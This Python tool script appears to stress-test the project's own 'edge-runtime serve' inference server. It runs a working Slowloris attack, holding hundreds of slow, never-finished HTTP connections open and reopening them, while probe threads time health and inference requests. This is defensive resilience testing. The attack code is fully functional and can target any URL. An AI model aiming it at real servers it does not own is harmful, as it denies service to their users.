"""Slowloris against a running ``edge-runtime serve``, while well-behaved probes time their answers.

Usage:
    python tools/slowloris.py --url http://127.0.0.1:8321 --model ppocr-cls --shape 1,3,48,192 \\
        [--sockets 500] [--seconds 120] [--drip 1.0] [--body-share 0.2] [--json]
    python tools/slowloris.py --serve [...]   # packs ppocr-cls, installs it and starts a serve of its own

The attacker holds ``--sockets`` connections open from one thread: most send
the start of a request head and then one more header line every ``--drip``
seconds, never the blank line that ends it; ``--body-share`` of them send a
whole head with ``Content-Length: 1000000`` and then drip body bytes. A
socket the server closes (its deadline, or an eviction) is opened again at
once, so the attack keeps its count, as a real one would.

Meanwhile two probe threads, well-behaved clients, send back to back:
``GET /v2/health/live`` on a new connection each time (as a health checker
does) and a real inference (a random FP32 tensor of ``--shape``, JSON) on a
keep-alive connection. Each answer must be a 200 within ``--max-latency``
seconds (default 1 s); a failure is anything else (another status, an error,
a reset, a slower answer). Prints a table (or ``--json``); exit status 1 when
any probe failed.
"""

from __future__ import annotations

import argparse
import contextlib
import http.client
import json
import os
import resource
import selectors
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import numpy as np

REPO = Path(__file__).resolve().parent.parent


class Attack:
    """``count`` slow connections to ``host:port``, kept open (re-opened when the server closes one)."""

    def __init__(self, host: str, port: int, count: int, drip: float, body_share: float, model: str) -> None:
        self.host, self.port, self.count, self.drip = host, port, count, drip
        self.body_count = round(count * body_share)
        self.model = model
        self.selector = selectors.DefaultSelector()
        self.due: dict[socket.socket, float] = {}
        self.kind: dict[socket.socket, str] = {}
        self.opened = self.closed_by_server = self.open_failures = 0
        self.held: list[tuple[float, int]] = []  # (time, sockets open)
        self.stop = threading.Event()

    def _open(self, kind: str) -> None:
        try:
            sock = socket.create_connection((self.host, self.port), timeout=5)
            if kind == "body":
                sock.sendall(f"POST /v2/models/{self.model}/infer HTTP/1.1\r\nHost: x\r\nContent-Type: "
                             f"application/json\r\nContent-Length: 1000000\r\n\r\n{{".encode())
            else:
                sock.sendall(b"GET /v2/health/live HTTP/1.1\r\nHost: x\r\n")
        except OSError:
            self.open_failures += 1
            return
        sock.setblocking(False)
        self.selector.register(sock, selectors.EVENT_READ)
        self.kind[sock] = kind
        self.due[sock] = time.monotonic() + self.drip * (0.5 + np.random.random())  # spread the drips
        self.opened += 1

    def _close(self, sock: socket.socket) -> str:
        self.selector.unregister(sock)
        self.due.pop(sock)
        kind = self.kind.pop(sock)
        sock.close()
        return kind

    def run(self) -> None:
        for i in range(self.count):
            self._open("body" if i < self.body_count else "head")
        next_sample = time.monotonic()
        while not self.stop.is_set():
            now = time.monotonic()
            if now >= next_sample:
                self.held.append((now, len(self.kind)))
                next_sample = now + 0.5
            for key, _ in self.selector.select(0.05):  # a reply (408) or a close from the server
                sock = key.fileobj
                assert isinstance(sock, socket.socket)
                try:
                    sock.recv(65536)
                except BlockingIOError:
                    continue
                except OSError:
                    pass
                self.closed_by_server += 1  # its 408, its FIN or its reset: the server let go of it
                self._open(self._close(sock))
            now = time.monotonic()
            for sock in [s for s, t in self.due.items() if t <= now]:
                try:
                    sock.send(b"X-Slow: 1\r\n" if self.kind[sock] == "head" else b" ")
                    self.due[sock] = now + self.drip
                except BlockingIOError:
                    self.due[sock] = now + self.drip
                except OSError:
                    self.closed_by_server += 1
                    self._open(self._close(sock))
            while len(self.kind) < self.count and not self.stop.is_set():  # opens that failed
                before = self.open_failures
                self._open("body" if sum(k == "body" for k in self.kind.values()) < self.body_count else "head")
                if self.open_failures > before:
                    time.sleep(0.05)
                    break
        for sock in list(self.kind):
            self._close(sock)


class Probe:
    """Well-behaved requests back to back; every answer's status and seconds."""

    def __init__(self, name: str) -> None:
        self.name = name
        self.times: list[float] = []
        self.failures: list[str] = []


def _probe_live(host: str, port: int, probe: Probe, stop: threading.Event, bound: float) -> None:
    while not stop.is_set():
        t0 = time.perf_counter()
        try:
            conn = http.client.HTTPConnection(host, port, timeout=10)
            conn.request("GET", "/v2/health/live")
            response = conn.getresponse()
            response.read()
            status = response.status
            conn.close()
        except OSError as e:
            status, error = 0, f"{type(e).__name__}: {e}"
        else:
            error = f"status {status}"
        _record(probe, time.perf_counter() - t0, status, error, bound)
        stop.wait(0.05)


def _probe_infer(host: str, port: int, path: str, body: bytes, probe: Probe, stop: threading.Event,
                 bound: float) -> None:
    conn: http.client.HTTPConnection | None = None
    while not stop.is_set():
        t0 = time.perf_counter()
        try:
            conn = conn or http.client.HTTPConnection(host, port, timeout=10)
            conn.request("POST", path, body, {"Content-Type": "application/json"})
            response = conn.getresponse()
            response.read()
            status, error = response.status, f"status {response.status}"
            if response.will_close:
                conn.close()
                conn = None
        except OSError as e:
            status, error = 0, f"{type(e).__name__}: {e}"
            if conn is not None:
                conn.close()
            conn = None
        _record(probe, time.perf_counter() - t0, status, error, bound)
        stop.wait(0.05)


def _record(probe: Probe, seconds: float, status: int, error: str, bound: float) -> None:
    probe.times.append(seconds)
    if status != 200:
        probe.failures.append(error)
    elif seconds > bound:
        probe.failures.append(f"answered in {seconds:.2f} s")


def _infer_body(shape: list[int]) -> bytes:
    x = np.random.default_rng(0).standard_normal(shape).astype(np.float32)
    return json.dumps({"inputs": [{"name": "x", "shape": shape, "datatype": "FP32",
                                   "data": [round(float(v), 6) for v in x.ravel()]}]}).encode()


def run(url: str, model: str, shape: list[int], sockets: int, seconds: float, drip: float, body_share: float,
        bound: float, input_name: str = "x") -> dict[str, Any]:
    """The attack and the probes for ``seconds``; returns the figures the table prints."""
    parts = urlsplit(url)
    host, port = parts.hostname or "127.0.0.1", parts.port or 80
    attack = Attack(host, port, sockets, drip, body_share, model)
    stop = threading.Event()
    live, infer = Probe("GET /v2/health/live (new connection)"), Probe(f"POST {model} infer (keep-alive)")
    body = _infer_body(shape).replace(b'"name": "x"', f'"name": {json.dumps(input_name)}'.encode())
    attacker = threading.Thread(target=attack.run, daemon=True)
    attacker.start()
    while len(attack.held) < 2 or attack.held[-1][1] < sockets:  # the attack is in place first
        if len(attack.held) > 40:
            break
        time.sleep(0.25)
    t0 = time.monotonic()
    threads = [threading.Thread(target=_probe_live, args=(host, port, live, stop, bound), daemon=True),
               threading.Thread(target=_probe_infer, args=(host, port, f"/v2/models/{model}/infer", body, infer,
                                                           stop, bound), daemon=True)]
    for thread in threads:
        thread.start()
    time.sleep(seconds)
    stop.set()
    for thread in threads:
        thread.join(15)
    attack.stop.set()
    attacker.join(15)
    held = [n for t, n in attack.held if t >= t0]
    return {
        "sockets": sockets, "seconds": seconds, "held_min": min(held, default=0),
        "held_median": int(np.median(held)) if held else 0, "opened": attack.opened,
        "closed_by_server": attack.closed_by_server, "open_failures": attack.open_failures,
        "probes": [{"name": p.name, "requests": len(p.times), "failures": len(p.failures),
                    "first_failures": p.failures[:5],
                    "p50_ms": float(np.percentile(p.times, 50) * 1000) if p.times else 0.0,
                    "p99_ms": float(np.percentile(p.times, 99) * 1000) if p.times else 0.0,
                    "max_ms": max(p.times, default=0.0) * 1000} for p in (live, infer)],
    }


def print_table(result: dict[str, Any], bound: float) -> None:
    print(f"slowloris: {result['sockets']} sockets for {result['seconds']:g} s; held during the probes: "
          f"min {result['held_min']}, median {result['held_median']}; opened {result['opened']} in all "
          f"({result['closed_by_server']} closed by the server and re-opened, {result['open_failures']} opens failed)")
    print(f"| probe | requests | failures (not 200 within {bound:g} s) | p50 ms | p99 ms | max ms |")
    print("| --- | ---: | ---: | ---: | ---: | ---: |")
    for p in result["probes"]:
        print(f"| {p['name']} | {p['requests']} | {p['failures']} | {p['p50_ms']:.1f} | {p['p99_ms']:.1f} | "
              f"{p['max_ms']:.1f} |")
        for failure in p["first_failures"]:
            print(f"  failure: {failure}")


@contextlib.contextmanager
def own_serve(max_connections: int | None) -> Iterator[str]:
    """A temporary device: ppocr-cls packed, installed and served by ``edge-runtime serve``; yields its URL."""
    from edge_runtime.devtools.model_zoo import fetch

    with tempfile.TemporaryDirectory(prefix="slowloris-") as tmp:
        root = Path(tmp)
        (root / "trust").mkdir()
        cli = [sys.executable, "-m", "edge_runtime"]
        subprocess.run([*cli, "bundle", "keygen", str(root / "pub.key")], check=True, capture_output=True)
        (root / "trust" / "pub.pub").write_bytes((root / "pub.key.pub").read_bytes())
        (root / "spec.toml").write_text('[preprocess]\nsize = [48, 192]\ncolor = "bgr"\n'
                                        '[postprocess]\ntype = "classification"\nactivation = "none"\ntop_k = 2\n')
        subprocess.run([*cli, "bundle", "pack", "--model", str(fetch("ppocr_cls")), "--name", "ppocr-cls",
                        "--version", "1", "--key", str(root / "pub.key"), "--spec", str(root / "spec.toml"),
                        "-o", str(root / "m.bundle")], check=True, capture_output=True)
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            port = s.getsockname()[1]
        config = root / "config.toml"
        config.write_text(f'state_dir = "{root / "state"}"\ntrust_dir = "{root / "trust"}"\n[api]\n'
                          f'listen = "127.0.0.1:{port}"\n'
                          + (f"max_connections = {max_connections}\n" if max_connections else ""))
        subprocess.run([*cli, "models", "install", str(root / "m.bundle"), "--config", str(config)], check=True,
                       capture_output=True)
        with open(root / "serve.err", "wb") as err:
            proc = subprocess.Popen([*cli, "serve", "--config", str(config)], stderr=err, cwd=REPO)
        try:
            deadline = time.monotonic() + 60
            while True:
                try:
                    with socket.create_connection(("127.0.0.1", port), timeout=1):
                        break
                except OSError:
                    if proc.poll() is not None or time.monotonic() > deadline:
                        raise SystemExit("serve did not start:\n" + (root / "serve.err").read_text()[-2000:]) from None
                    time.sleep(0.2)
            yield f"http://127.0.0.1:{port}"
        finally:
            proc.terminate()
            proc.wait(30)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--url", default="http://127.0.0.1:8321")
    parser.add_argument("--serve", action="store_true", help="start a serve of its own on ppocr-cls (ignores --url)")
    parser.add_argument("--max-connections", type=int, help="api.max_connections of --serve (default: its default)")
    parser.add_argument("--model", default="ppocr-cls")
    parser.add_argument("--input", default="x", help="the model's input name")
    parser.add_argument("--shape", default="1,3,48,192")
    parser.add_argument("--sockets", type=int, default=500)
    parser.add_argument("--seconds", type=float, default=120.0)
    parser.add_argument("--drip", type=float, default=1.0, help="seconds between a slow socket's bytes")
    parser.add_argument("--body-share", type=float, default=0.2, help="share of slow sockets that drip a body")
    parser.add_argument("--max-latency", type=float, default=1.0)
    parser.add_argument("--json", action="store_true")
    args = parser.parse_args(argv)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < args.sockets + 64:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, args.sockets + 256), hard))
    shape = [int(d) for d in args.shape.split(",")]
    with own_serve(args.max_connections) if args.serve else contextlib.nullcontext(args.url) as url:
        result = run(url, args.model, shape, args.sockets, args.seconds, args.drip, args.body_share,
                     args.max_latency, args.input)
    if args.json:
        print(json.dumps(result))
    else:
        print_table(result, args.max_latency)
    return 1 if any(p["failures"] or not p["requests"] for p in result["probes"]) else 0


if __name__ == "__main__":
    os.environ.setdefault("PYTHONUNBUFFERED", "1")
    sys.exit(main())
